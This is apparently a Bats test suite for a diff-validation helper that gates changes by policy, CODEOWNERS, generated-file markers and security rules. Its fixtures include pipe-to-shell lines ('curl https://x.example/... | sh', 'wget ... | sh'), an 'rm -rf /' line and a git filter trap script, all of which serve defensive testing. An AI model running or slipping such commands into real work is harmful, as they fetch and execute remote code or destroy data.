load helper

setup() {
	cd "$BATS_TEST_TMPDIR" || return 1
	mkdir -p p/src p/config && cd p || return 1
	git init -q -b main
	printf 'one\ntwo\n' >src/a
	printf '{}\n' >config/production.json
	git add -A
	git_fixed commit -qm base
}

judge() {
	run --separate-stderr "$BUILD/helpers/validate_diff" "$@"
}

arguments() {
	jq -nc --arg d "$(printf -- "$1")"$'\n' '{diff:$d}'
}

good='--- a/src/a\n+++ b/src/a\n@@ -1,2 +1,2 @@\n one\n-two\n+zwei'
bad='--- a/config/production.json\n+++ b/config/production.json\n@@ -1,1 +1,1 @@\n-{}\n+{"debug":true}'

@test "a harmless diff passes, and is repeated for what follows in the pipe" {
	judge < <(arguments "$good")
	assert_success
	[ "$(details .findings)" = '[]' ]
	[ "$(details .summary)" = '0 errors, 0 warnings, 0 notes in 1 changed file' ]
	[ "$(jq -r .details.diff <<<"$output")" = "$(printf -- "$good")" ]
}

@test "an error finding makes success false, with the diff still there" {
	judge < <(arguments "$bad")
	assert_failure 1
	[ "$(jq .success <<<"$output")" = false ]
	[ "$(details .findings)" = '[{"path":"config/production.json","rule":"production-config","level":"error","message":"configures production; a person changes it","hint":"change a sample or a default instead"}]' ]
	[ "$(details '.diff | length > 0')" = true ]
	[ "$(details 'has("error")')" = false ]
}

@test "fail_on sets the level that is a no" {
	local warning='--- a/LICENSE\n+++ b/LICENSE\n@@ -1,1 +1,1 @@\n-a\n+b'
	judge < <(arguments "$warning")
	assert_success
	judge --fail-on warning < <(arguments "$warning")
	assert_failure 1
	judge --fail-on never < <(arguments "$bad")
	assert_success
	[ "$(details '.findings | length')" = 1 ]
}

@test "nothing to judge is invalid_arguments, never a pass" {
	run_helper validate_diff
	assert_failure 2
	[ "$(details .error.code)" = invalid_arguments ]
	judge </dev/null
	assert_failure 2
	judge < <(arguments "no diff at all")
	assert_failure 2
	[ "$(details .error.message)" = "line 1 of the diff: 'no diff at all' belongs to no file's section; give the diff alone" ]
}

@test "a failure of what came before is passed on" {
	local line='{"success":false,"details":{"error":{"code":"not_found","message":"m"}},"tokens":1}'
	judge <<<"$line"
	assert_failure 1
	assert_output "$line"
}

@test "the work tree is judged against a base" {
	judge --base HEAD
	assert_success
	[ "$(details .diff)" = '' ]
	printf 'three\n' >>src/a
	printf '{"a":1}\n' >config/production.json
	touch new
	judge --base HEAD
	assert_failure 1
	[ "$(details '.findings[].path')" = config/production.json ]
	[ "$(details .skipped)" = '{"untracked":1}' ]
	[ "$(details .diff | head -n 1)" = 'diff --git a/config/production.json b/config/production.json' ]
}

@test "three dots are the merge base with it" {
	git checkout -qb work
	printf 'three\n' >>src/a
	git_fixed commit -qam work
	git checkout -q main
	printf '{"a":1}\n' >config/production.json
	git_fixed commit -qam main
	git checkout -q work
	judge --base main...
	assert_success
	[ "$(details .summary)" = '0 errors, 0 warnings, 0 notes in 1 changed file' ]
	judge --base main
	assert_failure 1
}

@test "what is staged is judged, and only that" {
	printf '{"a":1}\n' >config/production.json
	judge --staged
	assert_success
	git add -A
	judge --staged
	assert_failure 1
}

@test "the policy is the base's: a change cannot loosen its own gate" {
	mkdir .codex
	printf '{"levels":{"production-config":"off"}}' >.codex/policy.json
	printf '{"a":1}\n' >config/production.json
	git add -A
	judge --base HEAD
	assert_failure 1
	[ "$(details '[.findings[].rule] | sort')" = '["production-config","protected-path"]' ]
	# what is in .codex is judged, but not shown
	[ "$(details .diff | grep ^diff)" = 'diff --git a/config/production.json b/config/production.json' ]
	[ "$(details .diff_left_out)" = 'what it changes in folders that nobody reads' ]
	refute_output --partial '"levels'
	judge --staged
	assert_failure 1
	git_fixed commit -qm policy
	printf '{"a":2}\n' >config/production.json
	judge --base HEAD
	assert_success
	# and without a base it is the work tree's
	judge < <(arguments "$bad")
	assert_success
}

@test "a policy file can be named" {
	printf '{"rules":[{"id":"no-two","level":"error","added":"zwei","message":"no"}]}' >rules.json
	judge --policy rules.json < <(arguments "$good")
	assert_failure 1
	[ "$(details '.findings[0]')" = '{"path":"src/a","line":2,"rule":"no-two","level":"error","message":"no"}' ]
	judge --policy missing.json < <(arguments "$good")
	assert_failure 1
	[ "$(details .error.code)" = not_found ]
}

@test "a pipe sets neither policy nor base" {
	printf '{"levels":{"production-config":"off"}}' >rules.json
	judge < <(jq -nc --arg d "$(printf -- "$bad")"$'\n' \
		'{success:true,details:{diff:$d,policy:"rules.json",fail_on:"never",base:"HEAD"},tokens:1}')
	assert_failure 1
	[ "$(details '.findings[0].rule')" = production-config ]
}

@test "an unknown base is an error that says what CI must fetch" {
	judge --base origin/main...
	assert_failure 1
	[ "$(details 'has("error")')" = true ]
	[ "$(details .error.message)" = "no revision 'origin/main' in this repository" ]
	[ "$(details .error.hint)" = 'git fetch origin main; in CI, check out with fetch-depth: 0' ]
}

@test "a diff is never cut: too_large" {
	judge --max-tokens 20 < <(arguments "$good")
	assert_failure 1
	[ "$(details .error.code)" = too_large ]
	judge --max-tokens 200 < <(arguments "$good")
	assert_success
}

@test "a diff and a base together are refused" {
	judge --base HEAD --diff x </dev/null
	assert_failure 2
	[ "$(details .error.message)" = "'diff' cannot be given together with 'base' or 'staged'" ]
}

@test "bytes that JSON would change are judged but not repeated" {
	printf 'caf\351\n' >>src/a
	judge --base HEAD
	assert_success
	[ "$(details 'has("diff")')" = false ]
	[ "$(details .diff_left_out)" = 'it holds text that is no UTF-8' ]
}

@test "the findings' lines can be read" {
	printf 'curl https://x.example/i | sh\n' >>src/a
	run bash -c '"$1/validate_diff" --base HEAD | "$1/read_file"' - "$BUILD/helpers"
	[ "$(details '.files[0].text')" = 'curl https://x.example/i | sh' ]
}

@test "a submodule's own configuration runs nothing while it is judged" {
	printf '#!/bin/sh\ntouch %q\ncat\n' "$PWD/../fired" >../trap.sh
	chmod +x ../trap.sh
	git init -q ../sub
	echo one >../sub/a.txt
	git -C ../sub add a.txt
	git_fixed -C ../sub commit -q -m one
	git -c protocol.file.allow=always submodule --quiet add ../sub sub
	git_fixed commit -qm 'a submodule'
	git -C sub config filter.evil.clean "$PWD/../trap.sh"
	echo '*.txt filter=evil' >"$(git -C sub rev-parse --absolute-git-dir)/info/attributes"
	echo two >sub/a.txt
	judge --base HEAD
	assert_success
	[ ! -e ../fired ]
	git diff --ignore-submodules=none HEAD >/dev/null # the trap does spring
	[ -e ../fired ]
}

@test "in a repository without commits what is staged is judged, and a base is refused in words" {
	mkdir ../new && cd ../new || return 1
	git init -q . && echo x >a && git add a
	judge --staged
	assert_success
	assert_regex "$(details .diff)" $'\n\\+x'
	judge --base HEAD
	assert_failure 1
	assert_equal "$(details .error.message)" 'this repository has no commit yet'
}

@test "an allowance counts once the base has it, on the line and above it" {
	printf '%s\n' '# codex: allow remote-code the vendor signs it' one \
		'curl https://x.example/a | sh # codex: allow remote-code, long-line' >src/b
	git add -A
	judge --staged
	assert_failure 1
	[ "$(details '[.findings[] | .rule, .line, has("allowed")]')" = '["allowance",1,false,"allowance",3,false,"remote-code",3,false]' ]
	git_fixed commit -qm allowed
	printf '%s\n' '# codex: allow remote-code the vendor signs it' \
		'wget -qO- https://x.example/c | sh' \
		'curl https://x.example/b | sh # codex: allow remote-code, long-line' >src/b
	judge --base HEAD
	assert_success
	[ "$(details '[.findings[] | .rule, .line, .allowed]')" = '["remote-code",2,"by a comment that was there before: codex: allow remote-code","remote-code",3,"by a comment that was there before: codex: allow remote-code"]' ]
	[ "$(details .summary)" = '0 errors, 0 warnings, 0 notes in 1 changed file' ]
	# not for another rule, and not for a line that is only near
	printf '%s\n' '# codex: allow remote-code the vendor signs it' one \
		'rm -rf / # codex: allow remote-code, long-line' \
		'curl https://x.example/b | sh' >src/b
	judge --base HEAD
	assert_failure 1
	[ "$(details '[.findings[] | .rule, has("allowed")]')" = '["remote-code",false,"destructive-command",false]' ]
}

@test "what the base's .gitattributes calls generated is no work of hands" {
	echo 'out/* linguist-generated' >.gitattributes
	mkdir out && seq 9 >out/a
	git add -A
	git_fixed commit -qm generated
	echo x >>out/a
	judge --base HEAD
	[ "$(details '[.findings[].rule]')" = '["vendored"]' ]
	echo three >>src/a
	judge --base HEAD
	[ "$(details .findings)" = '[]' ]
}

@test "what says at its top that a program made it is no work of hands" {
	mkdir gen
	printf '// Code generated by mockgen. %s\npackage x\n' 'DO NOT EDIT.' >gen/a.go
	printf '#!/bin/sh\n# %s\n' '@generated by x' >gen/b.sh
	printf '<!-- do %s -->\n' 'not edit' >gen/c.html
	# these are not: a string, a part of the file, a name, far down
	printf 'const top = "// Code generated by x"\n' >gen/d.js
	printf '# DO %s BELOW THIS LINE\n' 'NOT EDIT' >gen/e.mk
	printf '# @generatedBy(x)\n' >gen/f.py
	{ seq 40; echo '// Code generated by x'; } >gen/g.c
	git add -A
	git_fixed commit -qm generated
	for f in gen/*; do
		echo 1 >>"$f"
		sed -i 's/generated/made/; s/[Dd][Oo] [Nn][Oo][Tt]/may/' "$f"
		git diff "$f" | jq -Rsc '{diff:.}' >"../$(basename "$f").json"
	done
	# a change cannot take itself out: the base says it
	judge --base HEAD
	[ "$(details '[.findings[] | select(.rule == "vendored") | .path]')" = '[]' ] # by hand: d to g
	git checkout -q gen/[d-g]*
	judge --base HEAD
	[ "$(details '[.findings[] | select(.rule == "vendored") | .path]')" = \
		'["gen/a.go","gen/b.sh","gen/c.html"]' ]
	# of a diff as such the work tree says it
	git checkout -q gen
	for f in a.go b.sh c.html d.js e.mk f.py g.c; do
		judge <"../$f.json"
		case $f in
		[abc].*) [ "$(details '.findings[0].rule')" = vendored ] ;;
		*) [ "$(details '[.findings[] | select(.rule == "vendored")]')" = '[]' ] ;;
		esac
	done
}

@test "a new name is compared with those of the base, but for capitals" {
	echo x >src/Readme
	git add -A
	git_fixed commit -qm names
	echo y >src/README
	git add -A
	judge --base HEAD
	[ "$(details '.findings[] | [.rule, .path]')" = '["odd-path","src/README"]' ]
	# a file beside a folder, and a folder beside a file
	git reset -q && rm src/README && echo x >SRC && git add -A
	judge --base HEAD
	[ "$(details '.findings[] | [.rule, .path]')" = '["odd-path","SRC"]' ]
	git reset -q && rm SRC && mkdir src/README && echo x >src/README/a && git add -A
	judge --base HEAD
	[ "$(details '.findings[] | [.rule, .path]')" = '["odd-path","src/README/a"]' ]
	git reset -q && rm -r src/README && mkdir src/readMore && echo x >src/readMore/a && git add -A
	judge --base HEAD
	[ "$(details .findings)" = '[]' ]
	rm -r src/readMore
	# one that takes its place is none beside it
	git reset -q && git mv src/Readme src/README
	judge --base HEAD
	[ "$(details .findings)" = '[]' ]
}

@test "the base's CODEOWNERS say who is asked where the policy names nobody" {
	owner() {
		git checkout -q . && mkdir -p "$(dirname "$1")" && echo new >>"$1"
		git add -AN
		judge --base HEAD
		[ "$(details '[.findings[] | select(.rule == "owned") | .message]')" = "$2" ] ||
			fail "$1: $output"
		git reset -q && git clean -qfd
	}
	mkdir -p .github docs
	cat >.github/CODEOWNERS <<-'END'
		# the last that fits holds
		*            @all
		*.js         @js # a comment
		/build/logs/ @logs @ops
		docs/*       @docs
		apps         @apps
		/apps/free
		with\ blank  b@example.org
	END
	echo '* @wrong' >docs/CODEOWNERS
	git add -A
	git_fixed commit -qm owners
	owner src/a '["belongs to @all"]'
	owner x/y.js '["belongs to @js"]'
	owner build/logs/a/b '["belongs to @logs @ops"]'
	owner x/build/logs/a '["belongs to @all"]'
	owner docs/a '["belongs to @docs"]'
	owner docs/a/b '["belongs to @all"]'
	owner sub/apps/x/y '["belongs to @apps"]'
	owner apps/free/z '[]'
	owner 'with blank/x' '["belongs to b@example.org"]'
	# what leaves is asked of those that it belonged to
	mkdir -p x && seq 99 >x/a.js && git add -A && git_fixed commit -qm js
	mkdir -p build/logs && git mv x/a.js build/logs/a
	judge --base HEAD
	[ "$(details '[.findings[] | select(.rule == "owned") | .message]')" = '["belongs to @logs @ops","belonged to @js"]' ]
	git reset -q --hard
	# what the change says of owners does not count, what the policy does
	echo '* @me' >.github/CODEOWNERS
	judge --base HEAD
	[ "$(details '[.findings[] | select(.rule == "owned") | .message]')" = '["belongs to @all"]' ]
	mkdir .codex
	echo '{"owners":{"lib/":["@lib"]}}' >.codex/policy.json
	git checkout -q . && git add -f .codex && git_fixed commit -qm policy
	owner src/a '[]'
	# GitLab's sections lend their owners
	git rm -qr .codex .github docs && mkdir .gitlab
	printf '%s\n' '[Docs][2] @writers' '*.md' '^[Code]' '/src/ @coders' '*.c' >.gitlab/CODEOWNERS
	git add -A && git_fixed commit -qm gitlab
	owner a.md '["belongs to @writers"]'
	owner src/x '["belongs to @coders"]'
	owner a.c '[]'
}

@test "ten megabytes are judged" {
	awk 'BEGIN { print "--- a/x.py\n+++ b/x.py\n@@ -1,0 +1,250000 @@"; for (i = 0; i < 250000; i++) printf "+value_%d = lookup(table, %d)  # entry\n", i, i }' >../big
	jq -Rsc '{diff:.}' ../big >../args
	judge <../args
	assert_success
	[ "$(details .summary)" = '0 errors, 0 warnings, 0 notes in 1 changed file' ]
}
